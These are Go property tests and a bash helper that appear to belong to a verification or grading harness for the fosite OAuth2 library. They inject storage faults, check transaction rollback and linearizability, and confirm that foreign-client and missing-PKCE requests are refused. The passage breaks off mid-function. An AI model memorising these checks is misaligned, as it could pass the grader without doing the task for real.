package props

import (
	"errors"
	"fmt"
	"net/url"
	"reflect"
	"strings"
	"testing"

	"github.com/ory/fosite"
	"github.com/ory/fosite/storage"
	"pgregory.net/rapid"

	"verifharness/h"
)

// C18 — storage failures never yield tokens and never leave a half-applied grant.

type c18Resp struct {
	ok       bool
	err      h.ErrInfo
	access   string
	refresh  string
	idToken  string
	code     string
	uri      string
	crashed  bool
	panicked interface{}
}

func (r c18Resp) delivered() bool {
	return r.access != "" || r.refresh != "" || r.idToken != "" || r.code != "" || r.uri != ""
}

type c18Ctx struct {
	w        *h.World
	code     string
	verifier string
	refresh  string // the credential being exchanged (refresh flows)
	oldRT    string // an already rotated refresh token (reuse flow)
	liveAT   string
	liveRT   string
	device   string
	par      string
	bearerN  int
}

type c18Flow struct {
	name    string
	token   bool                           // the request is a token request (must never yield tokens when faulted)
	setup   func(c *c18Ctx)                // prefix
	request func(c *c18Ctx) c18Resp        // the faulted request (also used for retries)
	attack  func(c *c18Ctx) (bool, string) // an attempt that must always be refused; returns (accepted, detail)
	single  bool                           // the credential is single-use: at most one success among request and retries
	burns   bool                           // the attack step itself consumes the credential: run it only after the retry
}

func tokResp(tr *h.TokenResult) c18Resp {
	return c18Resp{ok: tr.OK(), err: tr.Err, access: tr.Access, refresh: tr.Refresh, idToken: tr.IDToken}
}

func authzResp(ar *h.AuthzResult) c18Resp {
	return c18Resp{ok: ar.Err.OK() && (ar.Code != "" || ar.Access != "" || ar.IDToken != ""), err: ar.Err, access: ar.Access, idToken: ar.IDToken, code: ar.Code}
}

func c18Flows() []c18Flow {
	basic := func(c *c18Ctx) h.Auth { return c.w.BasicFor("A") }
	authzQ := func(rtype string) url.Values {
		return url.Values{"client_id": {"A"}, "response_type": {rtype}, "state": {"state-0123456789"}, "nonce": {"nonce-0123456789"}, "redirect_uri": {redirectURI}, "scope": {"openid offline a"}}
	}
	pwd := func(c *c18Ctx) *h.TokenResult {
		return c.w.Token(url.Values{"grant_type": {"password"}, "username": {"peter"}, "password": {"pw"}, "scope": {"offline a"}}, basic(c), h.TokenOpts{Session: h.NewSess("")})
	}
	return []c18Flow{
		{name: "code", token: true, single: true,
			setup: func(c *c18Ctx) {
				c.verifier = strings.Repeat("v", 50)
				q := authzQ("code")
				q.Set("code_challenge", h.PKCES256(c.verifier))
				q.Set("code_challenge_method", "S256")
				c.code = c.w.Authorize(q, h.Consent{}).Code
			},
			request: func(c *c18Ctx) c18Resp {
				return tokResp(c.w.Token(url.Values{"grant_type": {"authorization_code"}, "code": {c.code}, "redirect_uri": {redirectURI}, "code_verifier": {c.verifier}}, basic(c), h.TokenOpts{}))
			},
			attack: func(c *c18Ctx) (bool, string) {
				tr := c.w.Token(url.Values{"grant_type": {"authorization_code"}, "code": {c.code}, "redirect_uri": {redirectURI}}, basic(c), h.TokenOpts{})
				return tr.OK() || tr.Access != "", "redeem without the PKCE verifier -> " + tr.Err.String()
			}},
		{name: "refresh", token: true, single: true,
			setup: func(c *c18Ctx) { c.refresh = pwd(c).Refresh },
			request: func(c *c18Ctx) c18Resp {
				return tokResp(c.w.Token(url.Values{"grant_type": {"refresh_token"}, "refresh_token": {c.refresh}}, basic(c), h.TokenOpts{}))
			},
			attack: func(c *c18Ctx) (bool, string) {
				tr := c.w.Token(url.Values{"grant_type": {"refresh_token"}, "refresh_token": {c.refresh}}, c.w.BasicFor("B"), h.TokenOpts{})
				return tr.OK() || tr.Access != "", "refresh by a foreign client -> " + tr.Err.String()
			}},
		{name: "refresh-reuse", token: true,
			setup: func(c *c18Ctx) {
				c.oldRT = pwd(c).Refresh
				tr := c.w.Token(url.Values{"grant_type": {"refresh_token"}, "refresh_token": {c.oldRT}}, basic(c), h.TokenOpts{})
				c.liveAT, c.liveRT = tr.Access, tr.Refresh
			},
			request: func(c *c18Ctx) c18Resp {
				return tokResp(c.w.Token(url.Values{"grant_type": {"refresh_token"}, "refresh_token": {c.oldRT}}, basic(c), h.TokenOpts{}))
			}},
		{name: "device", token: true, single: true,
			setup: func(c *c18Ctx) {
				dr := c.w.DeviceAuth(url.Values{"client_id": {"A"}, "scope": {"openid offline a"}}, basic(c), h.Consent{})
				c.w.DeviceDecide(dr.UserCode, true, h.Consent{Session: h.NewSess("user-1")})
				c.device = dr.DeviceCode
			},
			request: func(c *c18Ctx) c18Resp {
				return tokResp(c.w.Token(url.Values{"grant_type": {deviceGrant}, "device_code": {c.device}}, basic(c), h.TokenOpts{}))
			},
			attack: func(c *c18Ctx) (bool, string) {
				tr := c.w.Token(url.Values{"grant_type": {deviceGrant}, "device_code": {c.device}}, c.w.BasicFor("B"), h.TokenOpts{})
				return tr.OK() || tr.Access != "", "poll by a foreign client -> " + tr.Err.String()
			}},
		{name: "implicit", token: true,
			request: func(c *c18Ctx) c18Resp { return authzResp(c.w.Authorize(authzQ("token"), h.Consent{})) }},
		{name: "hybrid", token: true,
			request: func(c *c18Ctx) c18Resp { return authzResp(c.w.Authorize(authzQ("code id_token token"), h.Consent{})) }},
		{name: "authorize-code", token: true,
			request: func(c *c18Ctx) c18Resp {
				q := authzQ("code")
				q.Set("code_challenge", h.PKCES256(strings.Repeat("w", 50)))
				q.Set("code_challenge_method", "S256")
				return authzResp(c.w.Authorize(q, h.Consent{}))
			}},
		{name: "client_credentials", token: true,
			request: func(c *c18Ctx) c18Resp {
				return tokResp(c.w.Token(url.Values{"grant_type": {"client_credentials"}, "scope": {"a"}}, basic(c), h.TokenOpts{}))
			}},
		{name: "password", token: true,
			request: func(c *c18Ctx) c18Resp { return tokResp(pwd(c)) }},
		{name: "jwt_bearer", token: true,
			setup: func(c *c18Ctx) {
				c.w.Mem.IssuerPublicKeys["iss-1"] = storage.IssuerPublicKeys{Issuer: "iss-1", KeysBySub: map[string]storage.SubjectPublicKeys{
					"sub-1": {Subject: "sub-1", Keys: map[string]storage.PublicKeyScopes{"k1": {Key: jwkPtr(h.PublicJWK(h.RSAKey(1), "k1", "RS256")), Scopes: []string{"a"}}}}}}
			},
			request: func(c *c18Ctx) c18Resp {
				c.bearerN++
				now := h.Now()
				a := h.MustSignJWT(h.RSAKey(1), "RS256", "k1", map[string]interface{}{"iss": "iss-1", "sub": "sub-1", "aud": []string{h.TokenURL}, "exp": now.Add(600e9).Unix(), "iat": now.Unix(), "jti": fmt.Sprintf("c18-jti-%d", c.bearerN)})
				return tokResp(c.w.Token(url.Values{"grant_type": {jwtBearerGrant}, "assertion": {a}, "scope": {"a"}}, basic(c), h.TokenOpts{Session: h.NewSess("")}))
			}},
		{name: "revocation",
			setup: func(c *c18Ctx) { tr := pwd(c); c.liveAT, c.liveRT = tr.Access, tr.Refresh },
			request: func(c *c18Ctx) c18Resp {
				r := c.w.Revoke(url.Values{"token": {c.liveRT}}, basic(c))
				return c18Resp{ok: r.Err.OK(), err: r.Err}
			}},
		{name: "revocation-by-access-token",
			setup: func(c *c18Ctx) { tr := pwd(c); c.liveAT, c.liveRT = tr.Access, tr.Refresh },
			request: func(c *c18Ctx) c18Resp {
				r := c.w.Revoke(url.Values{"token": {c.liveAT}}, basic(c))
				return c18Resp{ok: r.Err.OK(), err: r.Err}
			}},
		{name: "par-push", token: true,
			request: func(c *c18Ctx) c18Resp {
				f := authzQ("code")
				r := c.w.PAR(f, basic(c))
				return c18Resp{ok: r.Err.OK() && r.RequestURI != "", err: r.Err, uri: r.RequestURI}
			}},
		{name: "par-use", token: true, single: true, burns: true,
			setup: func(c *c18Ctx) { c.par = c.w.PAR(authzQ("code"), basic(c)).RequestURI },
			request: func(c *c18Ctx) c18Resp {
				return authzResp(c.w.Authorize(url.Values{"client_id": {"A"}, "request_uri": {c.par}}, h.Consent{}))
			},
			attack: func(c *c18Ctx) (bool, string) {
				ar := c.w.Authorize(url.Values{"client_id": {"B"}, "request_uri": {c.par}}, h.Consent{})
				return ar.Code != "", "request_uri used by a foreign client -> " + ar.Err.String()
			}},
	}
}

func c18World(store string) *h.World {
	h.ClockReset()
	w := h.NewWorld(h.Spec{Store: store, RefreshScopes: []string{}})
	for _, id := range []string{"A", "B"} {
		cl := stdClient(id, false)
		cl.Secret = w.HashSecret("secret-" + id)
		cl.GrantTypes = append(cl.GrantTypes, jwtBearerGrant)
		w.AddClient(cl, "secret-"+id)
	}
	w.AddUser("peter", "pw")
	return w
}

type crashSentinel struct{}

var c18Kinds = []string{"generic", "not_found", "inactive", "serialization", "crash"}

func c18Err(kind string) error {
	switch kind {
	case "not_found":
		return fosite.ErrNotFound
	case "inactive":
		return fosite.ErrInactiveToken
	case "serialization":
		return fosite.ErrSerializationFailure
	}
	return errors.New("injected storage failure")
}

// runFaulted performs req with the k-th storage call (1-based) failing with kind.
func runFaulted(w *h.World, k int, kind string, req func() c18Resp) (resp c18Resp, calls []*h.Call) {
	w.ResetCalls()
	w.Record = true
	n := 0
	crashed := false
	w.Fault = func(c *h.Call) error {
		if crashed {
			panic(crashSentinel{})
		}
		n++
		if n == k {
			if kind == "crash" {
				crashed = true
				panic(crashSentinel{})
			}
			return c18Err(kind)
		}
		return nil
	}
	func() {
		defer func() {
			if r := recover(); r != nil {
				if _, ok := r.(crashSentinel); ok {
					resp.crashed = true
				} else {
					resp.panicked = r
				}
			}
		}()
		resp = req()
	}()
	w.Fault = nil
	w.Record = false
	calls = w.Calls
	if resp.crashed && w.Tx != nil {
		w.Tx.Abort() // the database discards the transaction of a lost connection
	}
	return
}

// txGrammar checks the Begin/Commit/Rollback discipline over a recorded trace.
func txGrammar(calls []*h.Call, crashed bool) string {
	open := false
	failedWrite := false
	for _, c := range calls {
		switch c.Method {
		case "BeginTX":
			if open {
				return "BeginTX while a transaction is open"
			}
			if c.Err == nil {
				open = true
				failedWrite = false
			}
		case "Commit":
			if !open {
				return "Commit without an open transaction"
			}
			if failedWrite {
				return "Commit after a failed write inside the transaction"
			}
			if c.Err == nil {
				open = false
			} else {
				failedWrite = true // a failed commit must be followed by a rollback
			}
		case "Rollback":
			if !open {
				return "Rollback without an open transaction"
			}
			open = false
		default:
			if open && c.Err != nil && c.Faulty && !errors.Is(c.Err, fosite.ErrNotFound) && !errors.Is(c.Err, fosite.ErrInactiveToken) {
				failedWrite = true
			}
		}
	}
	if open && !crashed {
		return "transaction begun but neither committed nor rolled back"
	}
	return ""
}

func c18Check(t h.TB, fl c18Flow, store string, k int, kind string, second *[2]interface{}) {
	// fault-free reference run: the call list of the request
	ref := c18World(store)
	rc := &c18Ctx{w: ref}
	if fl.setup != nil {
		fl.setup(rc)
	}
	_, refCalls := runFaulted(ref, -1, "generic", func() c18Resp { return fl.request(rc) })
	if k > len(refCalls) {
		return
	}
	target := refCalls[k-1]
	// is the faulted call inside the issuing transaction (Begin .. Commit inclusive)?
	inTx := false
	depth := false
	for i, c := range refCalls {
		if c.Method == "BeginTX" {
			depth = true
		}
		if i == k-1 {
			inTx = depth
		}
		if c.Method == "Commit" || c.Method == "Rollback" {
			depth = false
		}
	}
	w := c18World(store)
	c := &c18Ctx{w: w}
	if fl.setup != nil {
		fl.setup(c)
	}
	var before map[string]string
	if w.Tx != nil {
		before = w.Tx.Snapshot()
	}
	resp, calls := runFaulted(w, k, kind, func() c18Resp { return fl.request(c) })
	desc := fmt.Sprintf("flow=%s store=%s fault=%s at call %d/%d (%s)%s -> %v crashed=%v", fl.name, store, kind, k, len(refCalls), target.Method, map[bool]string{true: " [inside the transaction]", false: ""}[inTx], resp.err, resp.crashed)
	var trace []string
	for _, cc := range calls {
		e := ""
		if cc.Err != nil {
			e = "!"
		}
		trace = append(trace, cc.Method+e)
	}
	fail := func(fp, f string, a ...any) {
		h.Violate(t, fp, "%s\n%s\nstorage calls of the faulted request: %v", fmt.Sprintf(f, a...), desc, trace)
	}
	if resp.panicked != nil {
		fail("C18/panic", "the request panicked: %v", resp.panicked)
	}
	isRead := strings.HasPrefix(target.Method, "Get") || target.Method == "ClientAssertionJWTValid" || target.Method == "IsJWTUsed" || target.Method == "Authenticate"
	unexpected := kind == "generic" || kind == "serialization" || ((kind == "not_found" || kind == "inactive") && !isRead)
	tolerated := (kind == "not_found" || kind == "inactive") && (strings.HasPrefix(target.Method, "Revoke") || strings.HasPrefix(target.Method, "Delete"))
	// 1. a refused request carries nothing; an unexpected failure refuses the request
	if !resp.ok && resp.delivered() {
		fail("C18/tokens-in-refused-response", "the refused response carries tokens / codes")
	}
	if fl.token && unexpected && !tolerated && !resp.crashed && resp.ok {
		fail("C18/request-succeeded-despite-storage-failure", "the request succeeded although storage call %s failed with %s", target.Method, kind)
	}
	// 1b. a revocation that is answered with success although a write failed must still have been effective: the
	// caller stops retrying, so the token and its sibling must be dead (fail-closed; nothing half-revoked is reported done)
	if strings.HasPrefix(fl.name, "revocation") && unexpected && !tolerated && !resp.crashed && resp.ok && !isRead {
		if w.IntrospectDirect(c.liveRT, fosite.RefreshToken).Active || w.IntrospectDirect(c.liveAT, fosite.AccessToken).Active {
			fail("C18/revocation-accepted-but-token-active", "revocation answered success although %s failed with %s, and a token of the grant is still active", target.Method, kind)
		}
	}
	// 2. serialization conflicts while refreshing are reported as retryable, not as server_error
	if fl.name == "refresh" && kind == "serialization" && inTx && target.Method != "BeginTX" && resp.err.Name == "server_error" {
		fail("C18/serialization-failure-not-retryable", "a serialization conflict during refresh was reported as server_error")
	}
	// 3. transaction discipline
	if w.Tx != nil {
		if g := txGrammar(calls, resp.crashed); g != "" {
			fail("C18/transaction-discipline", "%s", g)
		}
		if w.Tx.InTx() {
			fail("C18/transaction-discipline", "a transaction is still open after the request returned")
			w.Tx.Abort()
		}
		if len(w.Tx.TxErrors) > 0 {
			fail("C18/transaction-discipline", "%v", w.Tx.TxErrors)
		}
		if len(w.Tx.CtxErrors) > 0 {
			fail("C18/transaction-discipline", "%v", w.Tx.CtxErrors)
		}
	}
	// 4. transactional store + failure inside the issuing transaction: exactly as before
	rolledBack := w.Tx != nil && inTx && !resp.ok && (unexpected || kind == "crash") && !tolerated
	if rolledBack {
		if after := w.Tx.Snapshot(); !reflect.DeepEqual(before, after) {
			fail("C18/half-applied-grant", "code/token records differ from the state before the request:\n before=%v\n after =%v", before, after)
		}
	}
	// 5. the attack step is refused, whatever happened
	if fl.attack != nil && !fl.burns {
		if acc, detail := fl.attack(c); acc {
			fail("C18/guarantee-lost-after-failure", "after the failed request: %s", detail)
		}
	}
	// optional second fault during the retry
	successes := 0
	if resp.ok {
		successes++
	}
	if second != nil {
		k2, kind2 := second[0].(int), second[1].(string)
		r2, calls2 := runFaulted(w, k2, kind2, func() c18Resp { return fl.request(c) })
		if r2.panicked != nil {
			fail("C18/panic", "the retry panicked: %v", r2.panicked)
		}
		if !r2.ok && r2.delivered() {
			fail("C18/tokens-in-refused-response", "the refused retry carries tokens / codes")
		}
		if w.Tx != nil {
			if g := txGrammar(calls2, r2.crashed); g != "" {
				fail("C18/transaction-discipline", "retry: %s", g)
			}
		}
		if r2.ok {
			successes++
		}
		desc += fmt.Sprintf("; retry with fault=%s at call %d -> %v", kind2, k2, r2.err)
	}
	// 6. retry by the legitimate holder
	retry := c18Resp{}
	func() {
		defer func() {
			if r := recover(); r != nil {
				retry.panicked = r
			}
		}()
		retry = fl.request(c)
	}()
	if retry.panicked != nil {
		fail("C18/panic", "the retry panicked: %v", retry.panicked)
	}
	if retry.ok {
		successes++
	}
	if rolledBack && second == nil && !retry.ok && fl.name != "refresh-reuse" && !strings.HasPrefix(fl.name, "revocation") {
		fail("C18/credential-lost-after-rollback", "the failure was inside the transaction of a transactional store, but the legitimate retry is refused: %v %s", retry.err, retry.err.Hint)
	}
	if fl.single {
		again := fl.request(c)
		if again.ok {
			successes++
		}
		if successes > 1 {
			fail("C18/single-use-credential-exchanged-twice", "the credential was exchanged successfully %d times across the faulted request and its retries", successes)
		}
	}
	if fl.attack != nil {
		if acc, detail := fl.attack(c); acc {
			fail("C18/guarantee-lost-after-failure", "after the retry: %s", detail)
		}
	}
	// fail-closed for the reuse flow on a transactional store: the family dies once the replay is processed
	if fl.name == "refresh-reuse" && w.Tx != nil && !retry.ok && second == nil && !tolerated && !(isRead && (kind == "not_found" || kind == "inactive")) {
		if w.IntrospectDirect(c.liveRT, fosite.RefreshToken).Active || w.IntrospectDirect(c.liveAT, fosite.AccessToken).Active {
			fail("C18/reuse-not-handled-after-retry", "after the faulted replay and a fault-free replay the newest tokens are still active")
		}
	}
	nontrivial := inTx || retry.ok
	h.Case(fmt.Sprintf("C18/%s/%s/%d/%s/%v", fl.name, store, k, kind, second != nil), nontrivial, func() any {
		return map[string]any{"flow": fl.name, "store": store, "fault": kind, "call_index": k, "call": target.Method, "inside_transaction": inTx, "calls": trace, "result": resp.err.String(), "retry_ok": retry.ok}
	})
	h.Label("flow=" + fl.name)
	h.Label("kind=" + kind)
	if inTx {
		h.Label("fault-inside-transaction")
	}
	if retry.ok {
		h.Label("retry-succeeded")
	}
}

// TestC18_SingleFaults: every storage call index x every error kind x both
// stores x every flow, exhaustively.
func TestC18_SingleFaults(t *testing.T) {
	h.SetProperty("C18")
	selfTest(t)
	si, sn := shardInfo()
	n := 0
	for _, fl := range c18Flows() {
		for _, store := range []string{"mem", "tx"} {
			// length of the fault-free call list
			ref := c18World(store)
			rc := &c18Ctx{w: ref}
			if fl.setup != nil {
				fl.setup(rc)
			}
			r, refCalls := runFaulted(ref, -1, "generic", func() c18Resp { return fl.request(rc) })
			if !r.ok && fl.name != "refresh-reuse" {
				t.Fatalf("VERIF-INFRA: fault-free %s on %s does not succeed: %v %s", fl.name, store, r.err, r.err.Hint)
			}
			for k := 1; k <= len(refCalls); k++ {
				for _, kind := range c18Kinds {
					n++
					if n%sn != si {
						continue
					}
					c18Check(t, fl, store, k, kind, nil)
				}
			}
		}
	}
	h.SetExhaustive("single faults: every storage call index x {generic, not_found, inactive, serialization, crash} x {reference store, transactional store} x 14 flows", true)
	h.MarkCompleted()
}

// TestC18_FaultPairs: a fault in the request and a second fault in the retry,
// after a generated prefix history; sampled by rapid.
func TestC18_FaultPairs(t *testing.T) {
	h.SetProperty("C18")
	selfTest(t)
	flows := c18Flows()
	rapid.Check(t, func(rt *rapid.T) {
		fl := flows[rapid.IntRange(0, len(flows)-1).Draw(rt, "flow")]
		store := rapid.SampledFrom([]string{"mem", "tx", "tx"}).Draw(rt, "store")
		k := rapid.IntRange(1, 14).Draw(rt, "faultAt")
		kind := rapid.SampledFrom(c18Kinds).Draw(rt, "kind")
		k2 := rapid.IntRange(1, 14).Draw(rt, "secondFaultAt")
		kind2 := rapid.SampledFrom(c18Kinds).Draw(rt, "secondKind")
		c18Check(rt, fl, store, k, kind, &[2]interface{}{k2, kind2})
	})
	h.MarkCompleted()
}
