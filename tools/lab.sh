#!/bin/bash
# usage: tools/lab.sh <name> <patch.diff> <ID> [<ID>...]
# Runs quick checks (TIER=thorough for the other tier) against a patched *scratch copy* of /repo with a scratch copy
# of /verif, so that /repo and /verif stay untouched and other checks can run meanwhile. The copy lives in
# /tmp/lab/<name> and is removed afterwards. Prints one line per check like tools/mutcheck.sh.
set -u
name=$1; patch="$(realpath "$2")"; shift 2
lab=/tmp/lab/$name
rm -rf "$lab"; mkdir -p "$lab/repo" "$lab/verif"
git -C /repo archive HEAD | tar -x -C "$lab/repo"
( cd "$lab/repo" && git init -q . && git apply "$patch" ) || { echo "patch does not apply"; rm -rf "$lab"; exit 2; }
rsync -a --exclude .work --exclude replays --exclude .git --exclude evidence /verif/ "$lab/verif/"
mkdir -p "$lab/verif/evidence" "$lab/verif/replays"
cd "$lab/verif"
for id in "$@"; do
  t0=$(date +%s)
  out=$(VERIF_REPO="$lab/repo" VERIF_TIER=${TIER:-quick} ./check run "$id" 2>&1); rc=$?
  t1=$(date +%s)
  echo "$id exit=$rc secs=$((t1-t0)) $(echo "$out" | grep -m1 -A1 '^VIOLATION' | tr '\n' ' ' | sed "s#$lab##g" | cut -c1-300)"
  if [ "$rc" = 2 ]; then echo "$out" | tail -15; fi
done
cd /; rm -rf "$lab"
