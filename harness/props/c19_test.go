package props

import (
	"context"
	"fmt"
	"net/url"
	"sort"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/anishathalye/porcupine"
	"github.com/go-jose/go-jose/v3"
	"github.com/ory/fosite"
	"github.com/ory/fosite/storage"
	"golang.org/x/crypto/bcrypt"
	"pgregory.net/rapid"

	"verifharness/h"
)

// C19 — one provider and the reference store are safe under concurrent requests.

// ---------------------------------------------------------------------------
// Engine 1: linearizability of the reference store (porcupine).

type sOp struct {
	Table string // access | refresh | code | jti
	Kind  string
	Key   string // signature / jti
	Req   string // request id
}

type sOut struct {
	Code int // 0 ok/found-active, 1 not found / known, 2 inactive
}

type tblState map[string]string // immutable by convention: copied on write

func (t tblState) with(k, v string) tblState {
	n := make(tblState, len(t)+1)
	for a, b := range t {
		n[a] = b
	}
	n[k] = v
	return n
}
func (t tblState) without(k string) tblState {
	n := make(tblState, len(t))
	for a, b := range t {
		if a != k {
			n[a] = b
		}
	}
	return n
}

// Sequential specification of storage.MemoryStore, per table. Values:
// access: sig -> reqID; refresh: sig -> "1|req" / "0|req" plus "latest:"+req -> sig;
// code: sig -> "1"/"0"; jti: jti -> "1".
func storeStep(state interface{}, input interface{}, output interface{}) (bool, interface{}) {
	st := state.(tblState)
	in := input.(sOp)
	out := output.(sOut)
	switch in.Table + "/" + in.Kind {
	case "access/create":
		return out.Code == 0, st.with(in.Key, in.Req)
	case "access/get":
		_, ok := st[in.Key]
		return (out.Code == 0) == ok, st
	case "access/delete":
		return out.Code == 0, st.without(in.Key)
	case "access/revoke":
		n := st
		for k, v := range st {
			if v == in.Req {
				n = n.without(k)
			}
		}
		return out.Code == 0, n
	case "refresh/create":
		return out.Code == 0, st.with(in.Key, "1|"+in.Req).with("latest:"+in.Req, in.Key)
	case "refresh/get":
		v, ok := st[in.Key]
		want := 1
		if ok && strings.HasPrefix(v, "1|") {
			want = 0
		} else if ok {
			want = 2
		}
		return out.Code == want, st
	case "refresh/delete":
		return out.Code == 0, st.without(in.Key)
	case "refresh/revoke":
		sig, ok := st["latest:"+in.Req]
		if !ok {
			return out.Code == 0, st
		}
		v, ok := st[sig]
		if !ok {
			return out.Code == 1, st
		}
		return out.Code == 0, st.with(sig, "0|"+strings.SplitN(v, "|", 2)[1])
	case "code/create":
		return out.Code == 0, st.with(in.Key, "1")
	case "code/get":
		v, ok := st[in.Key]
		want := 1
		if ok && v == "1" {
			want = 0
		} else if ok {
			want = 2
		}
		return out.Code == want, st
	case "code/invalidate":
		if _, ok := st[in.Key]; !ok {
			return out.Code == 1, st
		}
		return out.Code == 0, st.with(in.Key, "0")
	case "jti/set":
		if _, ok := st[in.Key]; ok {
			return out.Code == 1, st
		}
		return out.Code == 0, st.with(in.Key, "1")
	case "jti/valid":
		_, ok := st[in.Key]
		return (out.Code == 1) == ok, st
	}
	return false, st
}

var storeModel = porcupine.Model{
	Partition: func(history []porcupine.Operation) [][]porcupine.Operation {
		m := map[string][]porcupine.Operation{}
		var keys []string
		for _, o := range history {
			t := o.Input.(sOp).Table
			if _, ok := m[t]; !ok {
				keys = append(keys, t)
			}
			m[t] = append(m[t], o)
		}
		sort.Strings(keys)
		var out [][]porcupine.Operation
		for _, k := range keys {
			out = append(out, m[k])
		}
		return out
	},
	Init: func() interface{} { return tblState{} },
	Step: storeStep,
	Equal: func(a, b interface{}) bool {
		x, y := a.(tblState), b.(tblState)
		if len(x) != len(y) {
			return false
		}
		for k, v := range x {
			if y[k] != v {
				return false
			}
		}
		return true
	},
	DescribeOperation: func(in, out interface{}) string { return fmt.Sprintf("%+v -> %+v", in, out) },
}

func errCode(err error) int {
	switch {
	case err == nil:
		return 0
	case err == fosite.ErrInactiveToken || err == fosite.ErrInvalidatedAuthorizeCode:
		return 2
	default:
		return 1
	}
}

func applyStoreOp(s *storage.MemoryStore, op sOp) sOut {
	ctx := context.Background()
	req := &fosite.Request{ID: op.Req, Client: &fosite.DefaultClient{ID: "c"}, Session: &fosite.DefaultSession{}}
	var err error
	switch op.Table + "/" + op.Kind {
	case "access/create":
		err = s.CreateAccessTokenSession(ctx, op.Key, req)
	case "access/get":
		_, err = s.GetAccessTokenSession(ctx, op.Key, nil)
	case "access/delete":
		err = s.DeleteAccessTokenSession(ctx, op.Key)
	case "access/revoke":
		err = s.RevokeAccessToken(ctx, op.Req)
	case "refresh/create":
		err = s.CreateRefreshTokenSession(ctx, op.Key, "asig", req)
	case "refresh/get":
		_, err = s.GetRefreshTokenSession(ctx, op.Key, nil)
	case "refresh/delete":
		err = s.DeleteRefreshTokenSession(ctx, op.Key)
	case "refresh/revoke":
		err = s.RevokeRefreshToken(ctx, op.Req)
	case "code/create":
		err = s.CreateAuthorizeCodeSession(ctx, op.Key, req)
	case "code/get":
		_, err = s.GetAuthorizeCodeSession(ctx, op.Key, nil)
	case "code/invalidate":
		err = s.InvalidateAuthorizeCodeSession(ctx, op.Key)
	case "jti/set":
		err = s.SetClientAssertionJWT(ctx, op.Key, h.Now().Add(time.Hour))
	case "jti/valid":
		err = s.ClientAssertionJWTValid(ctx, op.Key)
	}
	return sOut{Code: errCode(err)}
}

var storeOpKinds = map[string][]string{
	"access":  {"create", "create", "get", "get", "delete", "revoke"},
	"refresh": {"create", "create", "get", "get", "delete", "revoke", "revoke"},
	"code":    {"create", "get", "get", "invalidate"},
	"jti":     {"set", "set", "valid"},
}

func TestC19_StoreLinearizable(t *testing.T) {
	h.SetProperty("C19")
	selfTest(t)
	rapid.Check(t, func(rt *rapid.T) {
		nG := rapid.IntRange(2, 4).Draw(rt, "goroutines")
		lists := make([][]sOp, nG)
		tables := []string{"access", "refresh", "code", "jti"}
		for g := range lists {
			n := rapid.IntRange(2, 8).Draw(rt, "ops")
			for i := 0; i < n; i++ {
				tb := rapid.SampledFrom(tables).Draw(rt, "table")
				lists[g] = append(lists[g], sOp{Table: tb, Kind: rapid.SampledFrom(storeOpKinds[tb]).Draw(rt, "kind"),
					Key: rapid.SampledFrom([]string{"k1", "k2", "k3"}).Draw(rt, "key"), Req: rapid.SampledFrom([]string{"r1", "r2"}).Draw(rt, "req")})
			}
		}
		s := storage.NewMemoryStore()
		var mu sync.Mutex
		var hist []porcupine.Operation
		start := time.Now()
		var wg sync.WaitGroup
		var panics []string
		gate := make(chan struct{})
		for g := range lists {
			wg.Add(1)
			go func(g int) {
				defer wg.Done()
				defer func() {
					if r := recover(); r != nil {
						mu.Lock()
						panics = append(panics, fmt.Sprint(r))
						mu.Unlock()
					}
				}()
				<-gate
				for _, op := range lists[g] {
					c := time.Since(start).Nanoseconds()
					out := applyStoreOp(s, op)
					r := time.Since(start).Nanoseconds()
					mu.Lock()
					hist = append(hist, porcupine.Operation{ClientId: g, Input: op, Call: c, Output: out, Return: r})
					mu.Unlock()
				}
			}(g)
		}
		close(gate)
		done := make(chan struct{})
		go func() { wg.Wait(); close(done) }()
		select {
		case <-done:
		case <-time.After(90 * time.Second):
			h.Violate(rt, "C19/store-deadlock", "store operations did not finish within 90 s: %v", lists)
			return
		}
		if len(panics) > 0 {
			h.Violate(rt, "C19/store-panic", "panic in a store operation: %v", panics)
		}
		contended := map[string]int{}
		for _, l := range lists {
			seen := map[string]bool{}
			for _, o := range l {
				if !seen[o.Table] {
					seen[o.Table] = true
					contended[o.Table]++
				}
			}
		}
		nt := false
		for _, c := range contended {
			if c >= 2 {
				nt = true
			}
		}
		h.Case(fmt.Sprintf("lin/%v", lists), nt, func() any { return map[string]any{"engine": "store-linearizability", "per_goroutine_ops": lists} })
		if !porcupine.CheckOperations(storeModel, hist) {
			h.Violate(rt, "C19/store-not-linearizable", "history of the reference store is not linearizable w.r.t. its sequential specification:\n%v", hist)
		}
	})
	h.MarkCompleted()
}

// ---------------------------------------------------------------------------
// Engine 2: two API operations on overlapping credentials, every interleaving
// of their storage steps.

type c19Op struct {
	name string
	run  func(w *h.World, c *c19State) (tokens []string)
}

type c19State struct {
	code, access, refresh, device, par string
}

func c19Setup(store string) (*h.World, *c19State) {
	h.ClockReset()
	w := h.NewWorld(h.Spec{Store: store, RefreshScopes: []string{}})
	for _, id := range []string{"A", "B"} {
		cl := stdClient(id, false)
		cl.Secret = w.HashSecret("secret-" + id)
		w.AddClient(cl, "secret-"+id)
	}
	w.AddUser("peter", "pw")
	st := &c19State{}
	q := url.Values{"client_id": {"A"}, "response_type": {"code"}, "state": {"state-0123456789"}, "redirect_uri": {redirectURI}, "scope": {"offline a"}}
	st.code = w.Authorize(q, h.Consent{}).Code
	tr := w.Token(url.Values{"grant_type": {"password"}, "username": {"peter"}, "password": {"pw"}, "scope": {"offline a"}}, w.BasicFor("A"), h.TokenOpts{Session: h.NewSess("")})
	st.access, st.refresh = tr.Access, tr.Refresh
	dr := w.DeviceAuth(url.Values{"client_id": {"A"}, "scope": {"offline a"}}, w.BasicFor("A"), h.Consent{})
	w.DeviceDecide(dr.UserCode, true, h.Consent{Session: h.NewSess("user-1")})
	st.device = dr.DeviceCode
	st.par = w.PAR(q, w.BasicFor("A")).RequestURI
	return w, st
}

func c19Ops() []c19Op {
	tok := func(tr *h.TokenResult) []string {
		var l []string
		if tr.Access != "" {
			l = append(l, "a:"+tr.Access)
		}
		if tr.Refresh != "" {
			l = append(l, "r:"+tr.Refresh)
		}
		return l
	}
	return []c19Op{
		{"authorize", func(w *h.World, c *c19State) []string {
			ar := w.Authorize(url.Values{"client_id": {"A"}, "response_type": {"code token"}, "state": {"state-0123456789"}, "nonce": {"nonce-0123456789"}, "redirect_uri": {redirectURI}, "scope": {"openid a"}}, h.Consent{})
			if ar.Access != "" {
				return []string{"a:" + ar.Access}
			}
			return nil
		}},
		{"redeem", func(w *h.World, c *c19State) []string {
